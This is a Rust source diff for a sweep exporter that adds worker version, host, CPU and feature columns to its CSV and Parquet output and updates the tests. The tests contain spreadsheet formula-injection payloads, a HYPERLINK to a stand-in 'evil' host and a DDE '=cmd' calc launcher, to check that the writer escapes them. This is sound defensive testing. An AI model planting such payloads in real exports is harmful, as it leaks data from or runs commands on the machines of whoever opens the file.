@@ -16,7 +16,7 @@ use sweep::{csv, ResultRow};
 use crate::error::{Error, Result};
 
 /// The columns, in order, as every format names them.
-pub const COLUMNS: [&str; 13] = [
+pub const COLUMNS: [&str; 17] = [
     "rule",
     "dims",
     "n",
@@ -29,6 +29,10 @@ pub const COLUMNS: [&str; 13] = [
     "visited",
     "micros",
     "worker",
+    "worker_version",
+    "worker_host",
+    "worker_cpu",
+    "worker_features",
     sweep::csv::SWEEP_STATE,
 ];
 
@@ -53,6 +57,11 @@ pub struct Record {
     pub visited: u64,
     pub micros: u64,
     pub worker: String,
+    /// What the worker ran (docs/export.md); empty where not recorded.
+    pub worker_version: String,
+    pub worker_host: String,
+    pub worker_cpu: String,
+    pub worker_features: String,
     /// The sweep's state when exported: `done` only when every task has
     /// its result (see [`sweep::Progress::state_label`]).
     pub sweep_state: String,
@@ -78,6 +87,10 @@ impl Record {
             micros: r.micros,
             worker: r.worker,
             sweep_state: state.to_string(),
+            worker_version: r.worker_version,
+            worker_host: r.worker_host,
+            worker_cpu: r.worker_cpu,
+            worker_features: r.worker_features,
         }
     }
 }
@@ -119,6 +132,10 @@ impl CsvWriter {
             &visited,
             &micros,
             &text(&r.worker),
+            &text(&r.worker_version),
+            &text(&r.worker_host),
+            &text(&r.worker_cpu),
+            &text(&r.worker_features),
             &text(&r.sweep_state),
         ];
         out.write_all(csv::record(fields).as_bytes())
@@ -163,6 +180,10 @@ impl<W: Write + Send> ParquetWriter<W> {
             Field::new("visited", DataType::UInt64, false),
             Field::new("micros", DataType::UInt64, false),
             Field::new("worker", DataType::Utf8, false),
+            Field::new("worker_version", DataType::Utf8, false),
+            Field::new("worker_host", DataType::Utf8, false),
+            Field::new("worker_cpu", DataType::Utf8, false),
+            Field::new("worker_features", DataType::Utf8, false),
             Field::new(sweep::csv::SWEEP_STATE, DataType::Utf8, false),
         ]));
         debug_assert!(schema.fields().iter().map(|f| f.name().as_str()).eq(COLUMNS));
@@ -189,6 +210,7 @@ impl<W: Write + Send> ParquetWriter<W> {
         let mut micros = UInt64Builder::new();
         let mut worker = StringBuilder::new();
         let mut state = StringBuilder::new();
+        let mut provenance: [StringBuilder; 4] = std::array::from_fn(|_| StringBuilder::new());
         for r in records {
             rule.append_value(&r.rule);
             dims.append_value(r.dims);
@@ -205,8 +227,13 @@ impl<W: Write + Send> ParquetWriter<W> {
             micros.append_value(r.micros);
             worker.append_value(&r.worker);
             state.append_value(&r.sweep_state);
+            for (column, value) in
+                provenance.iter_mut().zip([&r.worker_version, &r.worker_host, &r.worker_cpu, &r.worker_features])
+            {
+                column.append_value(value);
+            }
         }
-        let columns: Vec<ArrayRef> = vec![
+        let mut columns: Vec<ArrayRef> = vec![
             Arc::new(rule.finish()),
             Arc::new(dims.finish()),
             Arc::new(n.finish()),
@@ -219,8 +246,9 @@ impl<W: Write + Send> ParquetWriter<W> {
             Arc::new(visited.finish()),
             Arc::new(micros.finish()),
             Arc::new(worker.finish()),
-            Arc::new(state.finish()),
         ];
+        columns.extend(provenance.iter_mut().map(|c| Arc::new(c.finish()) as ArrayRef));
+        columns.push(Arc::new(state.finish()));
         let batch = RecordBatch::try_new(self.schema.clone(), columns)
             .map_err(|e| parquet_error("building a Parquet batch", e))?;
         self.writer.write(&batch).map_err(|e| parquet_error("writing the Parquet file", e))
@@ -251,6 +279,10 @@ mod tests {
             micros: 7,
             worker: worker.into(),
             sweep_state: "done".into(),
+            worker_version: "0.1.0 (abc123)".into(),
+            worker_host: "node-1".into(),
+            worker_cpu: "Some CPU".into(),
+            worker_features: "sse4.1 ssse3".into(),
         }
     }
 
@@ -263,7 +295,14 @@ mod tests {
     #[test]
     fn a_worker_name_that_is_a_formula_is_written_as_text() {
         let line = csv_line(&record("2,1", "=HYPERLINK(\"http://evil/\"&A1,\"x\")"));
-        assert_eq!(line, "\"2,1\",2,5,\"[5,5]\",w,\"[0,3]\",true,tour,1,25,7,\"'=HYPERLINK(\"\"http://evil/\"\"&A1,\"\"x\"\")\",done\n");
+        assert_eq!(
+            line,
+            "\"2,1\",2,5,\"[5,5]\",w,\"[0,3]\",true,tour,1,25,7,\"'=HYPERLINK(\"\"http://evil/\"\"&A1,\"\"x\"\")\",\
+             0.1.0 (abc123),node-1,Some CPU,sse4.1 ssse3,done\n"
+        );
+        // A worker reports its own host and CPU: guarded the same way.
+        let host = Record { worker_host: "=cmd|' /C calc'!A0".into(), ..record("2,1", "w") };
+        assert!(csv_line(&host).contains(",'=cmd|' /C calc'!A0,"), "{}", csv_line(&host));
         assert!(csv_line(&record("2,1", "@cmd")).contains(",'@cmd,"));
         assert!(csv_line(&record("2,1", "host-1")).contains(",host-1,"), "plain names unchanged");
     }
